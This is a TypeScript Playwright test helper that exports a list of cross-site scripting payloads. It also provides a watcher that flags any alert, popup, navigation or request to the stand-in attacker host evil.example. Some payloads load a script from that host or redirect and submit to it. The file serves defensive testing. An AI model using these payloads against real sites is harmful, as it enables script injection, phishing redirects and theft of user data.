import type { Page } from 'playwright-core';

/** What would call `alert`, ask another server, or lead away, if anything of it worked. */
const DO = 'alert(1)';
const AWAY = 'https://evil.example';

/** HTML that an attacker may bring into a template, or into the name of something. */
export const PAYLOADS = [
  `<script>${DO}</script>`,
  `<script src="${AWAY}/x.js"></script>`,
  `<script type="module">${DO}</script>`,
  `<svg><script>${DO}</script></svg>`,
  `<svg onload="${DO}"></svg>`,
  `<img src=x onerror="${DO}">`,
  `<body onload="${DO}">`,
  `<iframe srcdoc="<script>${DO}</script>"></iframe>`,
  `<iframe src="javascript:${DO}"></iframe>`,
  `<object data="data:text/html,<script>${DO}</script>"></object>`,
  `<embed src="data:text/html,<script>${DO}</script>">`,
  `<a href="javascript:${DO}" id="go">go</a>`,
  `<a href="data:text/html,<script>${DO}</script>" id="go">go</a>`,
  `<a href="${AWAY}" target="_top" id="go">go</a>`,
  `<a href="${AWAY}" target="_blank" id="go">go</a>`,
  `<form action="${AWAY}"><button id="go">go</button></form>`,
  `<form action="javascript:${DO}"><button id="go">go</button></form>`,
  `<button formaction="javascript:${DO}" form="f" id="go">go</button><form id="f"></form>`,
  `<input autofocus onfocus="${DO}">`,
  `<details open ontoggle="${DO}"><summary>x</summary></details>`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${DO}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="${AWAY}/"><a href="x" id="go">go</a>`,
  `<link rel="stylesheet" href="javascript:${DO}">`,
  `<style>@import 'javascript:${DO}';</style>`,
  `<div style="background:url(javascript:${DO})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">over all</div>`,
  `<math><mi xlink:href="javascript:${DO}">x</mi></math>`,
  `<svg><a xlink:href="javascript:${DO}" id="go"><text y="20">go</text></a></svg>`,
  `<svg><animate attributeName="href" values="javascript:${DO}" /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${DO}>#x"></use></svg>`,
  `<template><script>${DO}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${DO}>"></noscript>`,
  `<textarea></textarea><img src=x onerror=${DO}>`,
  `<title></title><script>${DO}</script>`,
  `<video><source onerror="${DO}"></video>`,
  `<audio src=x onerror="${DO}"></audio>`,
  `<table background="javascript:${DO}"><tr><td>x</td></tr></table>`,
  `<p onclick="${DO}" id="go">go</p>`,
  `"><script>${DO}</script>`,
  `'-${DO}-'`,
  `\u202egnp.exe`,
];

/** What a page must never do: open something, lead away, or ask the attacker's server. */
export function watch(page: Page): string[] {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => seen.push(`popup ${popup.url()}`));
  page.on('request', (request) => {
    if (request.url().startsWith(AWAY)) seen.push(`request ${request.url()}`);
  });
  page.on('framenavigated', (frame) => {
    if (!/\/console\//.test(frame.url()) && frame.url() !== 'about:blank') seen.push(`led to ${frame.url()}`);
  });
  return seen;
}
